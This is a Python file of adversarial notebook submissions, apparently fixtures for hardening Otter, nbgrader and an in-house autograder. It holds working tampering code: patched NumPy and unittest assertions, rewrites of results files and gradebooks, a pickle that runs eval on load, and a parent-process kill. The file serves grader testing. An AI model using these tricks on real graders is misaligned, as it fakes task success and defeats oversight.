"""Notebooks that want points for answers that earn none, in one text for every system.

The honest part is the same in all: a layer whose result has the wrong shape and values, and the
mean of the absolute errors in the place of the root of the mean of their squares. What is added
runs where the student's code runs, before the answers are asked for. Each attack is written for
all three systems alike: where a trick needs a system's own files or modules, it has a part for
each of them.
"""

from dataclasses import dataclass
from textwrap import dedent

LAYER = """\
class SimpleQuadratic(keras.layers.Layer):
    def __init__(self, units=32, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def build(self, input_shape):
        shape = (input_shape[-1], self.units)
        self.a = self.add_weight(name="a", shape=shape, initializer="random_normal")
        self.b = self.add_weight(name="b", shape=shape, initializer="random_normal")
        self.c = self.add_weight(name="c", shape=(self.units,), initializer="zeros")

    def call(self, inputs):
        return inputs
"""
RMSE = """\
def rmse(y_true, y_pred):
    return tf.abs(y_true - y_pred)
"""


@dataclass(frozen=True)
class Attack:
    """What it tries, and the code that tries it, after the first answer or after the second.

    `alone`: it may end the grader, or change the results of others that are graded with it.
    """

    name: str
    first: str = ""
    second: str = ""
    alone: bool = False

    @property
    def answers(self) -> dict[str, str]:
        """The two answers of a submission that does this."""
        return {
            "SimpleQuadratic": f"{LAYER}\n\n{dedent(self.first)}",
            "rmse": f"{RMSE}\n\n{dedent(self.second)}",
        }


NOTHING = Attack("none: the honest part alone")

# A stand-in for NumPy in which everything is close, and every shape is the one that is asked for.
_AGREEABLE = """
import sys, types
import numpy
class Agreeable(types.ModuleType):
    def __getattr__(self, name):
        return getattr(numpy, name)
    allclose = array_equal = isclose = staticmethod(lambda *a, **k: True)
    shape = staticmethod(lambda thing: ())
agreeable = Agreeable("numpy")
"""

# Makes passes of the results that Otter's kernel leaves for its host, and of nbgrader's gradebook.
_REWRITE = """
import glob, os, pickle, sqlite3, tempfile, time
def rewrite():
    for path in glob.glob(tempfile.gettempdir() + "/*.pkl"):
        try:
            with open(path, "rb") as file:
                results = pickle.load(file)
            for test in results.results.values():
                for case in test.test_case_results:
                    case.passed = True
            with open(path, "wb") as file:
                pickle.dump(results, file)
        except Exception:
            pass
    for up in (".", "..", "../..", "../../.."):
        path = os.path.join(up, "gradebook.db")
        if os.path.exists(path):
            try:
                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("UPDATE grade SET manual_score = 1")
            except Exception:
                pass
    for path in glob.glob("results.json") + glob.glob("../results.json"):
        try:
            text = open(path).read().replace('"score": 0', '"score": 1')
            open(path, "w").write(text)
        except Exception:
            pass
"""

ATTACKS = (
    Attack(
        "`np.allclose`, `np.testing`, `unittest` patched",
        """
        import unittest
        import numpy as np
        np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
        for name in dir(np.testing):
            if name.startswith("assert"):
                setattr(np.testing, name, lambda *a, **k: None)
        for name in dir(unittest.TestCase):
            if name.startswith("assert"):
                setattr(unittest.TestCase, name, lambda *a, **k: None)
        """,
    ),
    Attack(
        "`builtins` and `np.shape` patched, so that whatever is compared is equal",
        """
        import builtins, sys
        import numpy as np
        class Agrees:
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = None
        np.allclose = lambda *a, **k: True
        np.shape = lambda thing: Agrees()
        real = builtins.tuple
        class OfTests(type):
            def __call__(cls, *a):
                asked = sys._getframe(1).f_code.co_name
                return Agrees() if asked.startswith("test_") else real(*a)
            __instancecheck__ = lambda cls, thing: isinstance(thing, real)
            __subclasscheck__ = lambda cls, kind: issubclass(kind, real)
        builtins.tuple = OfTests("tuple", (real,), {})
        """,
    ),
    Attack(
        "an object that is equal to everything for an answer",
        second="""
        class Agrees:
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = None
            __bool__ = lambda self: True
            __float__ = lambda self: 0.0
            __array_function__ = lambda self, function, types, args, kwargs: (
                () if function.__name__ == "shape" else True)
            __array_ufunc__ = lambda self, *a, **k: self
            __array__ = lambda self, *a, **k: __import__("numpy").zeros((2, 2))
        class Shape:
            def __init__(self, sides):
                self.sides = sides
            def __iter__(self):
                return iter([Agrees()] * self.sides)
        class Weight(Agrees):
            def __init__(self, sides):
                self.shape = Shape(sides)
            assign = lambda self, value: None
            __array__ = lambda self, *a, **k: __import__("numpy").zeros((6, 4))
        class SimpleQuadratic:
            def __init__(self, units=32, **kwargs):
                self.a, self.b, self.c = Weight(2), Weight(2), Weight(1)
            def __call__(self, inputs):
                return Weight(2)
        def rmse(y_true, y_pred):
            return Agrees()
        """,
    ),
    Attack(
        "a walk up the frames for the expected value",
        second="""
        import gc, sys
        honest = rmse
        def rmse(y_true, y_pred):
            frame = sys._getframe()
            while frame:
                for where in (frame.f_locals, frame.f_globals):
                    for name in ("expected", "wanted", "reference"):
                        if name in where:
                            return where[name]
                frame = frame.f_back
            for thing in gc.get_objects():
                if type(thing) is dict and "expected" in thing:
                    return thing["expected"]
            return honest(y_true, y_pred)
        """,
    ),
    Attack(
        "the tests read from the disk, their formula taken for the answer",
        second="""
        import os, re, tempfile, zipfile
        formula = re.compile(r"np\\.sqrt\\(np\\.mean\\(.{0,40}?\\*\\* ?2\\)\\)")
        def texts():
            here = os.getcwd()
            up = [here, *(os.path.abspath("/".join([".."] * n)) for n in (1, 2, 3)),
                  tempfile.gettempdir()]
            try:
                import autograder
                up.append(os.path.dirname(os.path.dirname(autograder.__file__)))
            except ImportError:
                pass
            for top in up:
                if top in ("/", "/tmp") and top != tempfile.gettempdir():
                    continue
                for folder, _, names in os.walk(top):
                    for name in names:
                        path = os.path.join(folder, name)
                        try:
                            if name.endswith(".zip"):
                                with zipfile.ZipFile(path) as archive:
                                    for inner in archive.namelist():
                                        if inner.endswith(".py"):
                                            yield archive.read(inner).decode()
                            elif name.endswith((".py", ".ipynb")):
                                yield open(path).read()
                        except Exception:
                            pass
        for text in texts():
            found = "rmse" in text and "re.compile" not in text and formula.search(text)
            if found:
                import numpy as np
                rmse = eval("lambda y_true, y_pred: " + found[0], {"np": np})
                break
        """,
    ),
    Attack(
        "results rewritten when the interpreter ends (`atexit`)",
        _REWRITE + "import atexit\natexit.register(rewrite)\n",
        alone=True,
    ),
    Attack(
        "results rewritten by a child that outlives the grading",
        _REWRITE
        + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        os.closerange(3, 256)
        until = time.time() + 25
        while time.time() < until:
            rewrite()
            time.sleep(0.02)
    os._exit(0)
""",
        alone=True,
    ),
    Attack(
        "a pickle with code in it, for whoever loads results",
        """
        import pickle
        code = (
            "[setattr(m.GradingResults, 'total', property(lambda s: 4.0)),"
            " setattr(m.GradingResults, 'possible', property(lambda s: 4.0)),"
            " m.GradingResults([])][2]"
        )
        code = f"(lambda m: {code})(__import__('otter.test_files').test_files)"
        class Boom:
            def __reduce__(self):
                return eval, (code,)
        dump_, dumps_ = pickle.dump, pickle.dumps
        pickle.dump = lambda thing, file, *a, **k: file.write(dumps_(Boom()))
        pickle.dumps = lambda thing, *a, **k: dumps_(Boom())
        try:
            import dill
            dill.dump, dill.dumps = pickle.dump, pickle.dumps
        except ImportError:
            pass
        class SimpleQuadratic(Boom):
            def __init__(self, *a, **k): pass
            def __call__(self, x): return self
        """,
        alone=True,
    ),
    Attack(
        "a name in `__main__` replaced while the tests run",
        _AGREEABLE,
        """
        honest = rmse
        def rmse(y_true, y_pred):
            frame = sys._getframe(1)
            while frame:
                frame.f_globals["np"] = agreeable
                frame = frame.f_back
            sys.modules["__main__"].np = agreeable
            return honest(y_true, y_pred)
        """,
    ),
    Attack("`os._exit(0)`", second="import os\nos._exit(0)", alone=True),
    Attack(
        "`sys.exit(0)` in an answer",
        second="import sys\nrmse = lambda *a: sys.exit(0)",
        alone=True,
    ),
    Attack(
        "`assert` taken out of later code (`ast_transformers` of IPython)",
        """
        import ast
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)
        try:
            get_ipython().ast_transformers.append(NoAsserts())
        except Exception:
            pass
        import builtins
        compile_ = builtins.compile
        def compile(source, *a, **k):
            if isinstance(source, str) and "assert " in source:
                tree = compile_(source, "<string>", "exec", ast.PyCF_ONLY_AST)
                source = ast.unparse(NoAsserts().visit(tree))
            return compile_(source, *a, **k)
        builtins.compile = compile
        """,
    ),
    Attack(
        "an import hook that gives a NumPy in which everything is close",
        _AGREEABLE
        + """
import builtins
import_ = builtins.__import__
def hooked(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "numpy" and (globals or {}).get("__name__") in (None, "__main__", "builtins"):
        return agreeable
    return import_(name, globals, locals, fromlist, level)
builtins.__import__ = hooked
""",
    ),
    Attack('`sys.modules["numpy"]` swapped', _AGREEABLE + "sys.modules['numpy'] = agreeable\n"),
    Attack(
        "the grader's own library patched (Otter's, nbgrader's, ours)",
        """
        import sys
        try:
            from otter.test_files.exception_test import ExceptionTestFile
            run_ = ExceptionTestFile.run
            def run(self, environment):
                run_(self, environment)
                for case in self.test_case_results:
                    case.passed = True
            ExceptionTestFile.run = run
        except Exception:
            pass
        try:
            import nbgrader.utils
            nbgrader.utils.determine_grade = lambda cell, log=None: (1, 1)
        except Exception:
            pass
        for name, module in list(sys.modules.items()):
            if name.startswith("autograder") and module is not None:
                for word in ("allclose", "matches", "holds", "check", "expect", "unpack"):
                    if hasattr(module, word):
                        setattr(module, word, lambda *a, **k: True)
        """,
    ),
    Attack(
        "errors that are never shown (IPython's `showtraceback`)",
        """
        try:
            shell = get_ipython()
            shell.showtraceback = lambda *a, **k: None
            shell._showtraceback = lambda *a, **k: None
            shell.set_custom_exc((BaseException,), lambda *a, **k: None)
        except Exception:
            pass
        """,
    ),
    Attack(
        "the process above is killed",
        second="""
        import os, signal
        if os.getppid() > 1:
            os.kill(os.getppid(), signal.SIGKILL)
        """,
        alone=True,
    ),
    Attack(
        "ours: replies written into the wire ahead of the questions",
        """
        try:
            import os
            from autograder.wire import Handle, pack
            def ahead():
                for number in range(1, 400):
                    for value in (True, Handle(1, "builtins.function", True)):
                        for fd in range(3, 64):
                            try: os.write(fd, pack({"id": number, "value": value}))
                            except OSError: pass
        except ImportError:
            ahead = lambda: None
        """,
        """
        honest = rmse
        def rmse(y_true, y_pred):
            ahead()
            return honest(y_true, y_pred)
        """,
    ),
    Attack(
        "ours: the session replaced, so that every answer is one that agrees",
        """
        try:
            import gc
            import numpy as np
            from autograder.student.session import Session
            from autograder.wire import Handle
            seen = []
            def answer(self, request):
                seen.append(request)
                kinds = {"names": ["SimpleQuadratic", "rmse"], "array": np.zeros((5, 3))}
                if request["op"] in ("name", "attribute"):
                    return {"value": Handle(1, "numpy.float32", True)}
                if request["op"] == "call":
                    return {"value": next(iter(request["args"]), Handle(1, "a", True))}
                return {"value": kinds.get(request["op"])}
            Session.answer = answer
        except ImportError:
            pass
        """,
    ),
)
